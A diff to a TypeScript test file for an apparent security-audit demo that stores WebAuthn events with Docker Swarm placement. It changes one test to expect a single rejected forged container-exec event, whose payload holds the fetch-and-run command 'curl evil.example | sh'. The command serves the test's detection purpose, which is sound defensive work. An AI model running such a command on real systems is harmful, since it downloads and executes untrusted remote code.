@@ -42,7 +42,7 @@ describe('npm run demo', () => {
     expect(result.out).toMatch(/2 chains \(2 clean\), 0 findings/);
   });
 
-  it('stores every ceremony once, with Swarm placement from the log-driver tag, and rejects nothing', () => {
+  it('stores every ceremony once, with Swarm placement from the log-driver tag, and rejects only the forged container event', () => {
     const counts = Object.fromEntries(
       (db.prepare('SELECT event_type, COUNT(*) AS n FROM security_audit_events GROUP BY event_type').all() as { event_type: string; n: number }[]).map(
         (r) => [r.event_type, r.n],
@@ -62,7 +62,10 @@ describe('npm run demo', () => {
     });
     const unplaced = db.prepare(`SELECT COUNT(*) AS n FROM security_audit_events WHERE event_type LIKE 'WEBAUTHN_%' AND (swarm_node IS NULL OR swarm_task_id IS NULL)`).get() as { n: number };
     expect(unplaced.n).toBe(0);
-    expect((db.prepare('SELECT COUNT(*) AS n FROM security_audit_rejects').get() as { n: number }).n).toBe(0);
+    const rejects = db.prepare('SELECT reason, raw_payload FROM security_audit_rejects').all() as { reason: string; raw_payload: string }[];
+    expect(rejects).toHaveLength(1);
+    expect(rejects[0]!.reason).toMatch(/^CONTAINER_EVENT_UNTRUSTED_TAG: a CONTAINER_EXEC from docker-events arrived with tag "swarm\.audit\.node-1\.webauthn-api\.[0-9a-f]+"/);
+    expect(rejects[0]!.raw_payload).toContain('curl evil.example | sh');
   });
 
   it('prints the reports: the forged-signature burst, the cloned authenticator and the shell', () => {
